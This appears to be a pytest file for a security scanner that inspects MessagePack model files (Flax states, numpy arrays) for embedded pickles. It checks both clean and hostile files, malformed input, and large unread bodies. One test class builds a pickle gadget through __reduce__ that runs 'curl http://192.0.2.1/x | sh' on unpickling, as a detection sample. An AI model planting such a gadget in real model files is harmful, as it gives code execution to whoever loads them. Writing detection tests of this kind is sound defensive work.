"""MessagePack: arrays of objects, extensions, bytes that are something else; and numbers that nobody reads."""

import io
import os

import msgpack
import msgpack_numpy
import numpy
import pytest

from scanner.finding import Verdict
from tests.formats.unwrapping import complaints, contents, names, unwrap
from tests.hostile.scanning import blocked_for, scan, scan_file
from tests.recipes.archives import PICKLE


class Payload:
    def __reduce__(self):
        return os.system, ("curl http://192.0.2.1/x | sh",)


OBJECTS = msgpack_numpy.encode(numpy.array([Payload(), None], dtype=object))


def flax(array: numpy.ndarray) -> msgpack.ExtType:
    """An array as ``flax.serialization`` packs it."""
    return msgpack.ExtType(1, msgpack.packb((array.shape, array.dtype.name, array.tobytes())))


def state(**more) -> dict:
    """What a train state comes to."""
    kernel = numpy.arange(1000, dtype="f4").reshape(10, 100)
    params = {"Dense_0": {"kernel": flax(kernel), "bias": flax(numpy.zeros(100, "f2"))}}
    return {"step": 7, "params": params, "opt_state": {"0": {}, "1": {"count": 7}}} | more


HONEST = {
    "flax": state(),
    "arrays": msgpack_numpy.encode(numpy.arange(100.0)),
    "records": msgpack_numpy.encode(numpy.zeros(9, [("name", "S4"), ("value", "f8")])),
    "nested": {"weights": [{"w": msgpack_numpy.encode(numpy.ones((9, 9)))} for _ in range(99)]},
    "texts": {
        f"key {n}": ["a text that mentions os.system('id')", None, True, -7, 1 << 40] for n in range(999)
    },
    "time": {"at": msgpack.Timestamp(1, 2), "it": 1.5},
}
CARRIERS = {
    "array": OBJECTS,
    "array in a state": state(extra=OBJECTS),
    "array in a list": [{"a": OBJECTS}],
    "keys are texts": {k.decode(): v for k, v in OBJECTS.items()},
    "kind is a text": {**OBJECTS, b"kind": "O"},
    "the data comes first": dict(reversed(OBJECTS.items())),
    "bytes": state(extra=PICKLE.ljust(99, b".")),
    "extension": state(extra=msgpack.ExtType(42, PICKLE.ljust(99, b"."))),
}


@pytest.mark.parametrize("value", HONEST.values(), ids=HONEST)
def test_honest_files_are_clean(value):
    data = msgpack.packb(value)
    assert names(data) == ["msgpack"]
    assert scan(data, "weights.msgpack").verdict is Verdict.CLEAN


@pytest.mark.parametrize("value", CARRIERS.values(), ids=CARRIERS)
def test_pickles_inside(value):
    found = blocked_for(scan(msgpack.packb(value), "weights.msgpack"))
    assert found & {"download-and-run", "code-execution"}


def test_an_array_of_objects_must_be_a_pickle():
    report = scan(msgpack.packb({**OBJECTS, b"data": b"no pickle"}), "a.msgpack")
    assert [finding.rule for finding in report.findings] == ["format-mismatch"]


def test_several_values_in_a_row():
    data = msgpack.packb(HONEST["time"]) * 3 + msgpack.packb(OBJECTS)
    assert blocked_for(scan(data, "a.msgpack")) == {"download-and-run"}


def test_data_behind_the_values():
    found = unwrap("msgpack", msgpack.packb(state()) + b"\xc1" + PICKLE)
    assert contents(found)["(trailing data)"].endswith(PICKLE)


@pytest.mark.parametrize(
    "data",
    [
        b"\x82\xa2ab\xc1",
        b"\xdf\xff\xff\xff\xff\xa2ab",
        b"\x81\xa2ab\xc6\xff\xff\xff\xff",
        b"\x81\xa2ab" + b"\x91" * 200 + b"\0",
    ],
)
def test_lies_are_malformed_or_over_budget(data):
    assert complaints(unwrap("msgpack", data))[-1] in ("Malformed", "OverBudget")


@pytest.mark.parametrize(
    "data",
    [
        b"\x80\x04K\x01.",
        b"\x89PNG\r\n\x1a\n",
        b"\x93NUMPY\1\0",
        b"\x81",
        b"\x92\1\2",
        bytes(range(128, 256)),
        b"\xd5\x19~:",
    ],
)
def test_other_files_are_not_taken_for_it(data):
    assert "msgpack" not in names(data)


def test_numbers_are_not_read(tmp_path):
    body = 1 << 30
    start = msgpack.packb({"params": {"kernel": None}})[:-1]
    inner = msgpack.packb((1, 2))[:0] + b"\x93\x92\x01\x02\xa7float32\xc6" + body.to_bytes(4, "big")
    extension = b"\xc9" + (len(inner) + body).to_bytes(4, "big") + b"\x01"
    with (tmp_path / "a.msgpack").open("w+b") as file:  # mostly a hole
        file.write(start + extension + inner)
        file.truncate(file.tell() + body)
    report = scan_file(tmp_path / "a.msgpack")
    assert (report.formats, report.verdict) == (("msgpack",), Verdict.CLEAN)
    assert report.bytes_read < body // 1000


def test_a_stream_written_by_a_packer():
    stream = io.BytesIO()
    packer = msgpack.Packer()
    for n in range(9):
        stream.write(packer.pack({"row": n, "text": "x" * n}))
    assert scan(stream.getvalue(), "rows.msgpack").verdict is Verdict.CLEAN
